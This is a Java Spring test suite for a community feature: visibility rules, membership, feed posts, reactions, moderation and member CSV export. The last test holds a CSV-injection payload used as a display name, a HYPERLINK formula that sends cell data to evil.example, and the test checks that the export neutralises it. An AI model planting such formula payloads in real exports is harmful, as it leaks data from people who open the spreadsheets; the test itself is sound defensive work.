package app.ambassade.community;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import app.ambassade.identity.AccountProvisioning;
import app.ambassade.identity.AuthenticatedUser;
import app.ambassade.identity.Role;
import app.ambassade.shared.validation.InvalidInputException;
import app.ambassade.support.AmbassadeTest;
import app.ambassade.support.TestData;
import app.ambassade.tenancy.TenantSummary;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.PageRequest;
import org.springframework.test.context.event.ApplicationEvents;
import org.springframework.test.context.event.RecordApplicationEvents;

/** Visibility, membership, feed rules, moderation and the events the engagement ledger listens to. */
@AmbassadeTest
@RecordApplicationEvents
class CommunityServiceTest {

    @Autowired
    CommunityImages pictures;

    @Autowired
    TestData data;

    @Autowired
    CommunityService communities;

    @Autowired
    FeedService feed;

    @Autowired
    ModerationService moderation;

    @Autowired
    ApplicationEvents events;

    @Autowired
    AccountProvisioning provisioning;

    TenantSummary tenant;
    AuthenticatedUser manager;
    AuthenticatedUser member;
    AuthenticatedUser other;
    AuthenticatedUser ambassador;
    long open;
    long inviteOnly;
    long ambassadorsOnly;

    @BeforeEach
    void seed() {
        tenant = data.tenant("comm");
        manager = data.person(tenant, Role.BRAND_MANAGER, "boss@comm.example");
        member = data.person(tenant, Role.MEMBER, "member@comm.example");
        other = data.person(tenant, Role.MEMBER, "other@comm.example");
        ambassador = data.person(tenant, Role.AMBASSADOR, "amb@comm.example");
        TestData.signIn(manager);
        open = communities
                .create(new CommunityForm("Runners", "We run", Visibility.OPEN, null))
                .id();
        inviteOnly = communities
                .create(new CommunityForm("Insiders", "", Visibility.INVITE_ONLY, null))
                .id();
        ambassadorsOnly = communities
                .create(new CommunityForm("Ambassadors", "", Visibility.AMBASSADORS_ONLY, null))
                .id();
    }

    @AfterEach
    void signOut() {
        TestData.signOut();
    }

    private List<String> namesSeenBy(AuthenticatedUser user) {
        TestData.signIn(user);
        return communities.browse().stream().map(CommunitySummary::name).toList();
    }

    @Test
    void aPlainMemberSeesOpenAndInviteOnlyCommunitiesButNotAmbassadorsOnlyOnes() {
        assertThat(namesSeenBy(member)).containsExactly("Insiders", "Runners");
        assertThat(communities.find(ambassadorsOnly)).isEmpty();
        assertThat(feed.feed(ambassadorsOnly, null, 20).posts()).isEmpty();
        assertThatThrownBy(() -> communities.join(ambassadorsOnly)).isInstanceOf(CommunityNotFoundException.class);
    }

    @Test
    void anAmbassadorSeesAllThreeAndAManagerAlsoSeesArchivedOnes() {
        assertThat(namesSeenBy(ambassador)).containsExactly("Ambassadors", "Insiders", "Runners");
        TestData.signIn(manager);
        communities.archive(open, true);
        assertThat(namesSeenBy(manager)).contains("Runners");
        assertThat(namesSeenBy(ambassador)).doesNotContain("Runners");
        assertThat(communities.find(open)).isEmpty();
    }

    @Test
    void aMemberJoinsAndLeavesAnOpenCommunityAndTheJoinIsPublished() {
        TestData.signIn(member);
        assertThat(communities.join(open)).isEqualTo(MembershipStatus.ACTIVE);
        assertThat(communities.mine()).extracting(CommunitySummary::id).containsExactly(open);
        assertThat(events.stream(CommunityActivity.MemberJoined.class))
                .containsExactly(new CommunityActivity.MemberJoined(tenant.id(), open, member.accountId()));
        communities.leave(open);
        assertThat(communities.mine()).isEmpty();
    }

    @Test
    void anInviteOnlyCommunityTakesARequestThatTheManagerAcceptsOrDeclines() {
        TestData.signIn(member);
        assertThat(communities.join(inviteOnly)).isEqualTo(MembershipStatus.REQUESTED);
        assertThat(feed.feed(inviteOnly, null, 20).posts()).isEmpty();
        TestData.signIn(other);
        communities.join(inviteOnly);
        TestData.signIn(manager);
        assertThat(communities.pendingRequests(inviteOnly, 10))
                .extracting(p -> p.id())
                .containsExactly(member.accountId(), other.accountId());
        communities.acceptRequest(inviteOnly, member.accountId());
        communities.declineRequest(inviteOnly, other.accountId());
        assertThat(events.stream(CommunityActivity.JoinRequestAccepted.class))
                .containsExactly(
                        new CommunityActivity.JoinRequestAccepted(tenant.id(), inviteOnly, member.accountId()));
        assertThat(communities.pendingRequests(inviteOnly, 10)).isEmpty();
        TestData.signIn(member);
        assertThat(communities.find(inviteOnly).orElseThrow().member()).isTrue();
        TestData.signIn(other);
        assertThat(communities.find(inviteOnly).orElseThrow().myStatus()).isNull();
    }

    @Test
    void anInvitedMemberJoinsWhenTheyAccept() {
        communities.invite(inviteOnly, member.accountId());
        TestData.signIn(member);
        assertThat(communities.find(inviteOnly).orElseThrow().myStatus()).isEqualTo(MembershipStatus.INVITED);
        assertThat(communities.join(inviteOnly)).isEqualTo(MembershipStatus.ACTIVE);
    }

    @Test
    void postsCommentsAndReactionsArePublishedWithThePostAuthor() {
        TestData.signIn(member);
        communities.join(open);
        FeedPost post = feed.publish(open, "Hello **runners**", null);
        TestData.signIn(other);
        communities.join(open);
        FeedComment comment = feed.comment(post.id(), "Welcome!");
        assertThat(feed.toggleReaction(post.id(), Reaction.LOVE)).isTrue();

        assertThat(events.stream(CommunityActivity.PostPublished.class))
                .containsExactly(new CommunityActivity.PostPublished(tenant.id(), open, post.id(), member.accountId()));
        assertThat(events.stream(CommunityActivity.CommentAdded.class))
                .containsExactly(new CommunityActivity.CommentAdded(
                        tenant.id(), open, post.id(), comment.id(), other.accountId(), member.accountId()));
        assertThat(events.stream(CommunityActivity.ReactionAdded.class))
                .containsExactly(new CommunityActivity.ReactionAdded(
                        tenant.id(), open, post.id(), other.accountId(), member.accountId(), "LOVE"));
    }

    @Test
    void reactionsToggle() {
        TestData.signIn(member);
        communities.join(open);
        long post = feed.publish(open, "Hi", null).id();
        assertThat(feed.toggleReaction(post, Reaction.LIKE)).isTrue();
        assertThat(feed.post(post).orElseThrow().reactions()).containsEntry(Reaction.LIKE, 1L);
        assertThat(feed.post(post).orElseThrow().myReactions()).containsExactly(Reaction.LIKE);
        assertThat(feed.toggleReaction(post, Reaction.LIKE)).isFalse();
        assertThat(feed.post(post).orElseThrow().reactions()).isEmpty();
    }

    @Test
    void onlyMembersMayPost() {
        TestData.signIn(member);
        assertThatThrownBy(() -> feed.publish(open, "Hi", null))
                .isInstanceOf(InvalidInputException.class)
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("body", "community.error.not-member"));
    }

    @Test
    void editingMarksThePostEditedAndOnlyTheAuthorMayEditOrDelete() {
        TestData.signIn(member);
        communities.join(open);
        long post = feed.publish(open, "First", null).id();
        assertThat(feed.editPost(post, "Second").edited()).isTrue();
        long comment = feed.comment(post, "Mine").id();
        TestData.signIn(other);
        communities.join(open);
        assertThatThrownBy(() -> feed.editPost(post, "Hacked")).isInstanceOf(CommunityNotFoundException.class);
        assertThatThrownBy(() -> feed.deletePost(post)).isInstanceOf(CommunityNotFoundException.class);
        assertThatThrownBy(() -> feed.deleteComment(comment)).isInstanceOf(CommunityNotFoundException.class);
        TestData.signIn(member);
        assertThat(feed.editComment(comment, "Mine, edited").edited()).isTrue();
        feed.deleteComment(comment);
        feed.deletePost(post);
        assertThat(feed.feed(open, null, 20).posts()).isEmpty();
    }

    @Test
    void emptyOrTooLongTextIsRefusedAtTheField() {
        TestData.signIn(member);
        communities.join(open);
        assertThatThrownBy(() -> feed.publish(open, "  ", null))
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("body", "validation.required"));
        assertThatThrownBy(() -> feed.publish(open, "x".repeat(FeedService.POST_MAX + 1), null))
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("body", "validation.too-long"));
        long post = feed.publish(open, "ok", null).id();
        assertThatThrownBy(() -> feed.comment(post, "y".repeat(FeedService.COMMENT_MAX + 1)))
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("comment", "validation.too-long"));
        assertThatThrownBy(() -> feed.publish(open, "pic", new ImageUpload("x.png", "<svg/>".getBytes())))
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("image", "validation.upload-not-image"));
        assertThatThrownBy(() -> feed.publish(open, "pic", new ImageUpload("x.png", new byte[pictures.maxBytes() + 1])))
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("image", "validation.upload-too-large"));
    }

    @Test
    void aMutedMemberCannotPostOrCommentUntilTheMuteIsLifted() {
        TestData.signIn(member);
        communities.join(open);
        long post = feed.publish(open, "before", null).id();
        TestData.signIn(manager);
        moderation.mute(open, member.accountId(), 7);
        TestData.signIn(member);
        assertThatThrownBy(() -> feed.publish(open, "during", null))
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("body", "community.error.muted"));
        assertThatThrownBy(() -> feed.comment(post, "during"))
                .extracting(e -> ((InvalidInputException) e).fieldErrors())
                .isEqualTo(java.util.Map.of("comment", "community.error.muted"));
        TestData.signIn(manager);
        moderation.mute(open, member.accountId(), 0);
        TestData.signIn(member);
        assertThat(feed.publish(open, "after", null).body()).isEqualTo("after");
    }

    @Test
    void hiddenContentDisappearsForOthersAndTheAuthorIsToldWhy() {
        TestData.signIn(member);
        communities.join(open);
        long post = feed.publish(open, "rude words", null).id();
        TestData.signIn(other);
        communities.join(open);
        feed.report(ContentType.POST, post, "Rude");
        TestData.signIn(manager);
        assertThat(moderation.queue(true, PageRequest.of(0, 10)).getContent())
                .singleElement()
                .satisfies(r -> {
                    assertThat(r.reason()).isEqualTo("Rude");
                    assertThat(r.excerpt()).isEqualTo("rude words");
                    assertThat(r.authorId()).isEqualTo(member.accountId());
                });
        moderation.hide(ContentType.POST, post, "Be kind");
        assertThat(moderation.countQueue(true)).isZero();
        assertThat(events.stream(CommunityActivity.ContentModerated.class))
                .usingRecursiveFieldByFieldElementComparatorIgnoringFields("moderationId")
                .containsExactly(new CommunityActivity.ContentModerated(
                        tenant.id(), open, "POST", post, member.accountId(), true, "Be kind", "any"));

        TestData.signIn(other);
        assertThat(feed.feed(open, null, 20).posts()).isEmpty();
        assertThat(feed.post(post)).isEmpty();
        TestData.signIn(member);
        assertThat(feed.feed(open, null, 20).posts())
                .singleElement()
                .satisfies(p -> assertThat(p.hiddenReason()).isEqualTo("Be kind"));

        TestData.signIn(manager);
        moderation.restore(ContentType.POST, post, "Fair enough");
        TestData.signIn(other);
        assertThat(feed.feed(open, null, 20).posts()).hasSize(1);
    }

    @Test
    void hiddenCommentsDisappearForOthers() {
        TestData.signIn(member);
        communities.join(open);
        long post = feed.publish(open, "post", null).id();
        long comment = feed.comment(post, "bad comment").id();
        TestData.signIn(manager);
        moderation.hide(ContentType.COMMENT, comment, "Off topic");
        TestData.signIn(other);
        communities.join(open);
        assertThat(feed.comments(post, 50)).isEmpty();
        assertThat(feed.post(post).orElseThrow().comments()).isZero();
    }

    @Test
    void managersSeeEngagementAndExportTheMemberList() {
        TestData.signIn(member);
        communities.join(open);
        long post = feed.publish(open, "one", null).id();
        feed.comment(post, "two");
        TestData.signIn(manager);
        CommunityActivityStats stats = moderation.engagement(open);
        assertThat(stats.members()).isEqualTo(1);
        assertThat(stats.weeks()).hasSize(8);
        assertThat(stats.weeks().get(7).posts()).isEqualTo(1);
        assertThat(stats.weeks().get(7).comments()).isEqualTo(1);
        assertThat(stats.mostActive())
                .singleElement()
                .satisfies(a -> assertThat(a.memberId()).isEqualTo(member.accountId()));
        assertThat(moderation.members(open, null, PageRequest.of(0, 10)).getContent())
                .singleElement()
                .satisfies(m -> assertThat(m.posts()).isEqualTo(1));
        StringWriter csv = new StringWriter();
        moderation.exportMembers(open, null, csv);
        assertThat(csv.toString()).startsWith("member_id,name,status").contains("Test MEMBER,ACTIVE");
    }

    @Test
    void theMemberExportNeutralisesADisplayNameASpreadsheetWouldRunAsAFormula() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click me\")";
        long id = TestData.asPlatformAdmin(() -> provisioning.createActiveAccount(
                tenant.id(), "formula@comm.example", formula, Role.MEMBER, TestData.PASSWORD, Locale.ENGLISH));
        TestData.signIn(new AuthenticatedUser(
                id, tenant.id(), tenant.slug(), "formula@comm.example", formula, Role.MEMBER.name(), 1));
        communities.join(open);
        TestData.signIn(manager);

        StringWriter csv = new StringWriter();
        moderation.exportMembers(open, null, csv);

        List<CSVRecord> records = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv.toString()))
                .getRecords();
        assertThat(records).singleElement().satisfies(r -> {
            assertThat(r.get("name")).isEqualTo("'" + formula);
            assertThat(r.get("member_id")).isEqualTo(Long.toString(id));
        });
    }
}
